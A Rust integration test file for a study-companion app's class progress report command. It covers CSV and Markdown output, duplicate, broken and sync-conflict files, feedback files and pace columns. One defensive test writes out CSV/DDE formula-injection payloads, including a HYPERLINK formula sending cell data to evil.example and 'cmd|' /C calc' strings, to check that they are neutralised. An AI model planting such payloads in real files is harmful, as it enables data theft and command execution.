//! The mentor's class: a folder of students' files (with a duplicate and a bad file), and the
//! report command against exact CSV and Markdown. The class view in the app: `class_ui.rs`.
#![allow(clippy::panic, clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::path::Path;
use std::process::Command;

use common::class::{at, class_folder, student};
use study_companion::curriculum::ItemId;
use study_companion::format;

fn report(args: &[&str]) -> (i32, String, String) {
    let output = Command::new(env!("CARGO_BIN_EXE_study-companion"))
        .arg("report")
        .args(args)
        .output()
        .unwrap();
    (
        output.status.code().unwrap_or(-1),
        String::from_utf8(output.stdout).unwrap(),
        String::from_utf8(output.stderr).unwrap(),
    )
}

#[test]
fn the_report_command_writes_exact_csv() {
    let dir = tempfile::tempdir().unwrap();
    class_folder(dir.path());
    let (code, out, err) = report(&[dir.path().to_str().unwrap()]);
    assert_eq!(code, 0, "{err}");
    let expected = "\u{feff}\
姓名,学生ID,一、python基础 (%),二、什么是机械/深度学习？ (%),三、数据处理 (%),四、了解/复刻机器学习案例 (%),五、了解/复刻深度学习案例 (%),六、撰写简单机器学习代码 (%),七、深度学习调参优化 (%),八、如何导出模型/撰写推理代码 (%),选修：如何使用线上环境进行开发？ (%),总进度 (%),已完成,已跳过,条目数,最后活动,流程图,导师反馈,反馈已发,进度节奏,文件
安娜,s-an,100,0,0,0,0,0,0,0,0,17,4,0,23,2026-11-27 10:30 UTC,无,无,,,anna.scprogress
李四,s-li,0,0,0,0,0,0,0,0,0,0,0,0,23,2026-11-01 08:00 UTC,无,无,,,lisi.scprogress
张三,s-zhang,50,50,0,0,0,0,0,0,0,13,3,0,23,2026-11-28 08:00 UTC,无,无,,,zhangsan-new.scprogress
";
    assert_eq!(out, expected);
    assert!(err.contains("broken.scprogress: error: "), "{err}");
    assert!(
        err.contains("zhangsan-old.scprogress: note: an older file of 张三"),
        "{err}"
    );
}

#[test]
fn the_report_command_writes_exact_item_csv_and_markdown() {
    let dir = tempfile::tempdir().unwrap();
    class_folder(dir.path());
    let anna = dir.path().join("anna.scprogress");
    let (code, out, _) = report(&["--table", "items", anna.to_str().unwrap()]);
    assert_eq!(code, 0);
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines.len(), 1 + 23, "a header and one row per item");
    assert_eq!(
        lines[0],
        "\u{feff}姓名,学生ID,章节,条目ID,条目,状态,开始,完成,笔记字数"
    );
    assert_eq!(
        lines[1],
        "安娜,s-an,一、python基础,python.software,软件准备,已完成,2026-11-27 10:30 UTC,2026-11-27 10:30 UTC,0"
    );
    assert_eq!(
        lines[5],
        "安娜,s-an,二、什么是机械/深度学习？,what-is-dl.course,完成第一课程p1内容,未开始,,,0"
    );

    let output = dir.path().join("report.md");
    let (code, out, _) = report(&[
        "--format",
        "md",
        "-o",
        output.to_str().unwrap(),
        dir.path().to_str().unwrap(),
    ]);
    assert_eq!(code, 0);
    assert!(out.is_empty());
    let markdown = std::fs::read_to_string(output).unwrap();
    let version = &study_companion::embedded::curriculum().version;
    let expected = format!(
        "# 班级进度报告\n\n3 名学生，路线版本 {version}。\n\n\
| 姓名 | 1 | 2 | 3 | 4 | 5 | 6 | 7 | 8 | 9 | 总进度 | 最后活动 | 流程图 | 反馈已发 |\n\
|---|---:|---:|---:|---:|---:|---:|---:|---:|---:|---:|---|:---:|---|\n\
| 安娜 | 100% | 0% | 0% | 0% | 0% | 0% | 0% | 0% | 0% | 17% (4/23) | 2026-11-27 10:30 UTC | — |  |\n\
| 李四 | 0% | 0% | 0% | 0% | 0% | 0% | 0% | 0% | 0% | 0% (0/23) | 2026-11-01 08:00 UTC | — |  |\n\
| 张三 | 50% | 50% | 0% | 0% | 0% | 0% | 0% | 0% | 0% | 13% (3/23) | 2026-11-28 08:00 UTC | — |  |\n\
\n章节：\n\
1. 一、python基础\n2. 二、什么是机械/深度学习？\n3. 三、数据处理\n4. 四、了解/复刻机器学习案例\n\
5. 五、了解/复刻深度学习案例\n6. 六、撰写简单机器学习代码\n7. 七、深度学习调参优化\n\
8. 八、如何导出模型/撰写推理代码\n9. 选修：如何使用线上环境进行开发？\n\
\n同一学生的多个文件（使用最新的一个）：\n\n\
- 张三：使用 zhangsan-new.scprogress，忽略 zhangsan-old.scprogress\n\
\n无法读取的文件：\n\n"
    );
    assert!(markdown.starts_with(&expected), "{markdown}");
    assert!(markdown.contains("- broken.scprogress："), "{markdown}");
}

#[test]
fn the_report_fails_only_if_nothing_could_be_read() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("a.scprogress"), "garbage").unwrap();
    let (code, _, err) = report(&[dir.path().to_str().unwrap()]);
    assert_eq!(code, 1);
    assert!(err.contains("no progress file could be read"), "{err}");
}

/// Runs `study-companion report` in-process; returns (success, stdout, stderr).
fn run_report(
    paths: &[&Path],
    format: study_companion::cli::ReportFormat,
    table: study_companion::report::Table,
) -> (bool, String, String) {
    let command = study_companion::cli::Command::Report {
        paths: paths.iter().map(|path| path.to_path_buf()).collect(),
        format,
        table: Some(table),
        output: None,
        plan: None,
        today: None,
    };
    let (mut out, mut err) = (Vec::new(), Vec::new());
    let code = study_companion::cli::run(
        &command,
        None,
        study_companion::embedded::curriculum(),
        &mut out,
        &mut err,
    );
    (
        code == std::process::ExitCode::SUCCESS,
        String::from_utf8(out).unwrap(),
        String::from_utf8(err).unwrap(),
    )
}

/// The cells of a CSV report (without its byte-order mark), header first.
fn csv_cells(text: &str) -> Vec<Vec<String>> {
    let text = text.strip_prefix('\u{feff}').unwrap();
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|record| record.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

/// Names, ids and file names that Excel or LibreOffice would run as formulas (OWASP's list:
/// `= + - @`, tab, carriage return), each with the cell the report must write for it.
#[test]
fn the_csv_report_neutralises_formulas_in_names_ids_and_file_names() {
    let dir = tempfile::tempdir().unwrap();
    // (file name, student id, name as written in the file, the name cell, the file cell)
    let cases: &[(&str, &str, &str, &str, &str)] = &[
        (
            "=HYPERLINK.scprogress",
            "s-1",
            "=HYPERLINK(\"https://evil.example/?\"&A1,\"点我\")",
            "'=HYPERLINK(\"https://evil.example/?\"&A1,\"点我\")",
            "'=HYPERLINK.scprogress",
        ),
        (
            "+1+cmd.scprogress",
            "s-2",
            "+1+cmd|' /C calc'!A0",
            "'+1+cmd|' /C calc'!A0",
            "'+1+cmd.scprogress",
        ),
        (
            "-2+3.scprogress",
            "-3",
            "-2+3+cmd|' /C calc'!A0",
            "'-2+3+cmd|' /C calc'!A0",
            "'-2+3.scprogress",
        ),
        (
            "@SUM.scprogress",
            "s-4",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "'@SUM(1+1)*cmd|' /C calc'!A0",
            "'@SUM.scprogress",
        ),
        // The reader removes control characters from names, so the tab goes and the
        // formula after it must still be caught.
        (
            "\t=1+1.scprogress",
            "s-5",
            "\t=1+1",
            "'=1+1",
            "'\t=1+1.scprogress",
        ),
        (
            "\r=1+1.scprogress",
            "s-6",
            "\r=2+2",
            "'=2+2",
            "'\r=1+1.scprogress",
        ),
        // Importers that trim spaces would see `=` first.
        (
            " =3+3.scprogress",
            "s-7",
            " =3+3",
            "' =3+3",
            "' =3+3.scprogress",
        ),
        ("ok.scprogress", "s-8", "张三", "张三", "ok.scprogress"),
    ];
    for (file_name, id, name, _, _) in cases {
        let file = student(id, name, &["python.software"], "2026-11-20T08:00:00Z");
        std::fs::write(
            dir.path().join(file_name),
            format::to_string(&file).unwrap(),
        )
        .unwrap();
    }

    let (ok, out, err) = run_report(
        &[dir.path()],
        study_companion::cli::ReportFormat::Csv,
        study_companion::report::Table::Chapters,
    );
    assert!(ok, "{err}");
    let cells = csv_cells(&out);
    let header = &cells[0];
    let column = |title: &str| header.iter().position(|cell| cell == title).unwrap();
    let (name, id, total, file) = (
        column("姓名"),
        column("学生ID"),
        column("总进度 (%)"),
        column("文件"),
    );
    assert_eq!(cells.len(), 1 + cases.len(), "{out}");
    for (_, student_id, _, name_cell, file_cell) in cases {
        let row = cells
            .iter()
            .find(|row| row[id].trim_start_matches('\'') == *student_id)
            .unwrap_or_else(|| panic!("no row for {student_id}: {out}"));
        assert_eq!(row[name], *name_cell, "{out}");
        assert_eq!(row[file], *file_cell, "{out}");
        assert_eq!(row[total], "4", "numbers stay numbers");
    }
    let minus = cells
        .iter()
        .find(|row| row[name].starts_with("'-2"))
        .unwrap();
    assert_eq!(
        minus[id], "'-3",
        "an id starting with `-` is neutralised too"
    );
    for row in &cells {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?} would be a formula"
            );
        }
    }

    let (ok, out, err) = run_report(
        &[dir.path()],
        study_companion::cli::ReportFormat::Csv,
        study_companion::report::Table::Items,
    );
    assert!(ok, "{err}");
    let cells = csv_cells(&out);
    assert!(
        cells.iter().any(|row| row[0] == "'=1+1" && row[1] == "s-5"),
        "{out}"
    );
    for row in &cells {
        for cell in row {
            assert!(
                !cell.trim_start().starts_with(['=', '+', '-', '@']),
                "{cell:?} would be a formula"
            );
        }
    }
}

/// Files of other kinds in a class folder are not read, and the report says so (hidden files,
/// such as `.DS_Store`, and sub-folders are not counted).
#[test]
fn the_report_says_how_many_files_of_a_folder_it_skipped() {
    let dir = tempfile::tempdir().unwrap();
    class_folder(dir.path());
    std::fs::write(dir.path().join("wangwu.json"), "{}").unwrap();
    std::fs::write(dir.path().join("zhaoliu.scprogress.zip"), "PK").unwrap();
    std::fs::write(dir.path().join(".DS_Store"), "").unwrap();
    std::fs::create_dir(dir.path().join("old")).unwrap();

    let (ok, _, err) = run_report(
        &[dir.path()],
        study_companion::cli::ReportFormat::Csv,
        study_companion::report::Table::Chapters,
    );
    assert!(ok, "{err}");
    let expected = format!(
        "{}: note: 3 file(s) skipped, not .scprogress, .scfeedback or .ron: notes.txt, wangwu.json, zhaoliu.scprogress.zip\n",
        dir.path().display()
    );
    assert!(err.contains(&expected), "{err}");

    // A folder with nothing else to skip says nothing about skipping.
    let clean = tempfile::tempdir().unwrap();
    std::fs::copy(
        dir.path().join("lisi.scprogress"),
        clean.path().join("lisi.scprogress"),
    )
    .unwrap();
    let (ok, _, err) = run_report(
        &[clean.path()],
        study_companion::cli::ReportFormat::Md,
        study_companion::report::Table::Chapters,
    );
    assert!(ok, "{err}");
    assert!(!err.contains("skipped"), "{err}");

    let class = study_companion::report::load_class(
        study_companion::embedded::curriculum(),
        &[dir.path().to_owned()],
    );
    assert_eq!(class.skipped.len(), 1);
    assert_eq!(class.skipped[0].folder, dir.path());
    assert_eq!(class.skipped[0].files.len(), 3);
}

/// A sketch of `strokes` strokes of `points` points each, and a label.
fn big_sketch(strokes: usize, points: usize) -> study_companion::drawing::Sketch {
    use study_companion::drawing::{Ink, Label, Sketch, Stroke};
    Sketch {
        strokes: (0..strokes)
            .map(|s| Stroke {
                color: Ink::Blue,
                width: 3.0,
                points: (0..points)
                    .map(|p| [(p % 900) as f32 + 0.25, (s % 1200) as f32 + 0.5])
                    .collect(),
            })
            .collect(),
        labels: vec![Label {
            pos: [10.0, 20.0],
            text: "数据 → 模型".to_owned(),
            color: Ink::Black,
            size: 24.0,
        }],
        ..Sketch::default()
    }
}

/// The class and the report need no strokes: they keep none (a class of 20 strokes-heavy
/// files used to hold them all), but everything they show is kept, and opening the student
/// reads the file again with every stroke.
#[test]
fn the_class_keeps_no_sketch_strokes_but_everything_it_shows() {
    use study_companion::drawing::{Drawing, render};
    let dir = tempfile::tempdir().unwrap();
    let task = ItemId("what-is-dl.workflow-drawing".to_owned());
    let sketch = big_sketch(50, 400);
    let mut file = student(
        "s-draw",
        "画图的同学",
        &["python.software"],
        "2026-11-20T08:00:00Z",
    );
    file.progress.drawings.insert(
        task.clone(),
        Drawing {
            image: Some(render::render_png(&sketch).unwrap()),
            sketch: Some(sketch.clone()),
            updated: Some(at("2026-11-25T09:00:00Z")),
        },
    );
    let path = dir.path().join("draw.scprogress");
    std::fs::write(&path, format::to_string(&file).unwrap()).unwrap();

    let class = study_companion::report::load_class(
        study_companion::embedded::curriculum(),
        &[dir.path().to_owned()],
    );
    assert!(class.problems.is_empty(), "{:?}", class.problems);
    let row = &class.students[0];
    assert!(row.has_drawing);
    assert_eq!(row.last_activity, Some(at("2026-11-25T09:00:00Z")));
    let drawing = &row.file.progress.drawings[&task];
    assert_eq!(drawing.updated, Some(at("2026-11-25T09:00:00Z")));
    assert_eq!(drawing.image, None, "no pixels in the class");
    // (Not `assert_eq!`: a failure would print 20,000 points.)
    assert!(drawing.sketch.is_none(), "no strokes in the class");

    // What a mentor's click reads (`Action::ViewStudent`): the whole file.
    let full = format::read_path(&path).unwrap();
    assert!(full.file.progress.drawings[&task].sketch == Some(sketch));
    assert!(full.file.progress.drawings[&task].image.is_some());
}

#[test]
fn a_feedback_file_in_the_class_folder_is_feedback_not_progress() {
    let dir = tempfile::tempdir().unwrap();
    class_folder(dir.path());
    // A mentor's feedback for 张三, newer than all of 张三's files, in the same folder: once
    // with its own extension, once as a file of the older app (`.scprogress`, no kind).
    let zhang = study_companion::format::Student {
        id: "s-zhang".to_owned(),
        name: "张三".to_owned(),
    };
    let draft = study_companion::progress::Feedback {
        mentor: "王老师".to_owned(),
        overall: "很好".to_owned(),
        ..Default::default()
    };
    let feedback =
        study_companion::exchange::feedback_file(&zhang, &draft, "v", at("2026-11-29T09:00:00Z"));
    std::fs::write(
        dir.path().join("张三-反馈.scfeedback"),
        format::to_string(&feedback).unwrap(),
    )
    .unwrap();
    let mut legacy = feedback.clone();
    legacy.kind = format::Kind::Progress;
    std::fs::write(
        dir.path().join("张三-反馈-旧.scprogress"),
        format::to_string(&legacy).unwrap(),
    )
    .unwrap();

    let (code, out, err) = report(&[dir.path().to_str().unwrap()]);
    assert_eq!(code, 0, "{err}");
    let zhang_line = out.lines().find(|line| line.starts_with("张三")).unwrap();
    assert!(
        zhang_line.contains(
            ",13,3,0,23,2026-11-28 08:00 UTC,无,无,2026-11-29 09:00 UTC,,zhangsan-new.scprogress"
        ),
        "{zhang_line}"
    );
    assert_eq!(
        out.lines().count(),
        4,
        "no row for the feedback files: {out}"
    );
}

#[test]
fn a_markdown_item_table_is_refused_not_silently_replaced() {
    let dir = tempfile::tempdir().unwrap();
    class_folder(dir.path());
    let (code, out, err) = report(&[
        "--format",
        "md",
        "--table",
        "items",
        dir.path().to_str().unwrap(),
    ]);
    assert_eq!(code, 2, "{out}");
    assert!(out.is_empty());
    assert!(err.contains("--format csv --table items"), "{err}");
}

#[test]
fn what_changed_between_two_readings_of_a_class() {
    let dir = tempfile::tempdir().unwrap();
    class_folder(dir.path());
    let curriculum = study_companion::embedded::curriculum();
    let before = study_companion::report::load_class(curriculum, &[dir.path().to_owned()]);
    let mut li = student(
        "s-li",
        "李四",
        &["python.software", "python.files"],
        "2026-11-30T09:00:00Z",
    );
    li.saved_at = Some(at("2026-11-30T09:00:00Z"));
    std::fs::write(
        dir.path().join("lisi.scprogress"),
        format::to_string(&li).unwrap(),
    )
    .unwrap();
    let newcomer = student("s-new", "王五", &[], "2026-11-30T09:00:00Z");
    std::fs::write(
        dir.path().join("wangwu.scprogress"),
        format::to_string(&newcomer).unwrap(),
    )
    .unwrap();
    let after = study_companion::report::load_class(curriculum, &[dir.path().to_owned()]);
    let changes = study_companion::report::changes_since(&before, &after);
    assert_eq!(changes.len(), 2, "{changes:?}");
    assert_eq!(changes["s-li"].completed, 2);
    assert!(changes["s-new"].new_student);
    assert!(
        !changes.contains_key("s-zhang"),
        "unchanged rows are left out"
    );
}

#[test]
fn sync_leftovers_are_ignored_and_conflict_copies_named() {
    let dir = tempfile::tempdir().unwrap();
    let folder = dir.path();
    let li = student("s-li", "李四", &["python.software"], "2026-11-28T08:00:00Z");
    let write = |name: &str, file: &format::ProgressFile| {
        std::fs::write(folder.join(name), format::to_string(file).unwrap()).unwrap();
    };
    write("李四-s-li.scprogress", &li);
    // Syncthing kept both sides of a conflict: the copy has the newer save.
    let newer = student(
        "s-li",
        "李四",
        &["python.software", "python.files"],
        "2026-11-29T08:00:00Z",
    );
    write(
        "李四-s-li.sync-conflict-20261129-080000-ABCDEFG.scprogress",
        &newer,
    );
    // What sync clients leave while they work: never read, never listed as skipped, even
    // when the bytes are a whole progress file or garbage.
    for leftover in [
        ".syncthing.李四-s-li.scprogress.tmp",
        "~syncthing~李四-s-li.scprogress.tmp",
        ".李四-s-li.scprogress.~1a2b",
        "李四-s-li.scprogress.part",
        "desktop.ini",
        "Thumbs.db",
    ] {
        std::fs::write(folder.join(leftover), "ProgressFile(format: 2, stu").unwrap();
    }

    let class = study_companion::report::load_class(
        study_companion::embedded::curriculum(),
        &[folder.to_owned()],
    );
    assert!(class.problems.is_empty(), "{:?}", class.problems);
    assert!(class.unsettled.is_empty(), "{:?}", class.unsettled);
    assert!(class.skipped.is_empty(), "{:?}", class.skipped);
    let [row] = class.students.as_slice() else {
        panic!("one row for 李四: {:?}", class.students);
    };
    assert_eq!(row.total.done, 2, "the newer save wins");
    assert!(study_companion::report::is_conflict_copy(&row.path));
    assert_eq!(row.superseded.len(), 1);
    assert_eq!(row.conflict_copies(), 1);

    let (code, _, err) = report(&[folder.to_str().unwrap()]);
    assert_eq!(code, 0, "{err}");
    assert!(err.contains("note: an older file of 李四"), "{err}");
}

#[test]
fn a_file_still_arriving_is_unsettled_and_a_stale_broken_file_a_problem() {
    let dir = tempfile::tempdir().unwrap();
    let folder = dir.path();
    let li = student("s-li", "李四", &["python.software"], "2026-11-28T08:00:00Z");
    let text = format::to_string(&li).unwrap();
    // Half of a file, written just now (a sync client in the middle of it).
    std::fs::write(folder.join("lisi.scprogress"), &text[..text.len() / 2]).unwrap();
    // A damaged file that has been lying there for an hour.
    common::class::write_old(&folder.join("old.scprogress"), &text[..text.len() / 3]);

    let load = || {
        study_companion::report::load_class(
            study_companion::embedded::curriculum(),
            &[folder.to_owned()],
        )
    };
    let class = load();
    assert_eq!(class.unsettled.len(), 1, "{:?}", class.unsettled);
    assert!(class.unsettled[0].0.ends_with("lisi.scprogress"));
    assert_eq!(class.problems.len(), 1, "{:?}", class.problems);
    assert!(class.problems[0].0.ends_with("old.scprogress"));

    // The rest arrives: read as usual.
    std::fs::write(folder.join("lisi.scprogress"), &text).unwrap();
    let class = load();
    assert!(class.unsettled.is_empty());
    assert_eq!(class.students.len(), 1);

    // The command line does not wait: both are errors there, the fresh one explained.
    std::fs::write(folder.join("lisi.scprogress"), &text[..10]).unwrap();
    let (_, _, err) = report(&[folder.to_str().unwrap()]);
    assert!(
        err.contains("lisi.scprogress: error: ") && err.contains("still being copied or synced"),
        "{err}"
    );
    assert!(err.contains("old.scprogress: error: "), "{err}");
}

/// `report --plan` adds each student's pace at the given day: a CSV column and a Markdown
/// table.
#[test]
fn the_report_has_a_pace_column_and_table_with_a_plan() {
    use jiff::civil::date;
    let dir = tempfile::tempdir().unwrap();
    let curriculum = study_companion::embedded::curriculum();
    let mut progress = format::ProgressFile::new(format::Student::new("张三"), &curriculum.version);
    let time: jiff::Timestamp = "2027-01-12T08:00:00Z".parse().unwrap();
    for (_, item) in curriculum.items().take(3) {
        progress
            .progress
            .set_state(&item.id, study_companion::progress::ItemState::Done, time);
    }
    let class = dir.path().join("class");
    std::fs::create_dir(&class).unwrap();
    std::fs::write(
        class.join("zhang.scprogress"),
        format::to_string(&progress).unwrap(),
    )
    .unwrap();
    let plan =
        study_companion::plan::default_plan(curriculum, date(2027, 1, 11), date(2027, 2, 21));
    let plan_path = class.join("计划.scplan");
    let file = study_companion::plan::PlanFile::new(plan.clone(), "王老师", "v", time);
    std::fs::write(
        &plan_path,
        study_companion::plan::file::to_string(&file).unwrap(),
    )
    .unwrap();
    let today = date(2027, 1, 25);
    let expected = study_companion::plan::pace(curriculum, &plan, &progress.progress, today);
    let study_companion::plan::PaceStatus::Behind(behind) = expected.status else {
        panic!("{expected:?}");
    };
    for format in [
        study_companion::cli::ReportFormat::Csv,
        study_companion::cli::ReportFormat::Md,
    ] {
        let command = study_companion::cli::Command::Report {
            paths: vec![class.clone()],
            format,
            table: None,
            output: None,
            plan: Some(plan_path.clone()),
            today: Some(today),
        };
        let (mut out, mut err) = (Vec::new(), Vec::new());
        let code = study_companion::cli::run(&command, None, curriculum, &mut out, &mut err);
        let out = String::from_utf8(out).unwrap();
        let err = String::from_utf8(err).unwrap();
        assert_eq!(code, std::process::ExitCode::SUCCESS, "{err}");
        assert!(
            !err.contains("计划.scplan"),
            "a plan is not a skipped file: {err}"
        );
        assert!(out.contains("进度节奏"), "{out}");
        assert!(out.contains(&format!("落后 {behind} 项")), "{out}");
        if format == study_companion::cli::ReportFormat::Md {
            assert!(
                out.contains(&format!("| 3/{} |", expected.expected_low)),
                "{out}"
            );
        }
    }
}
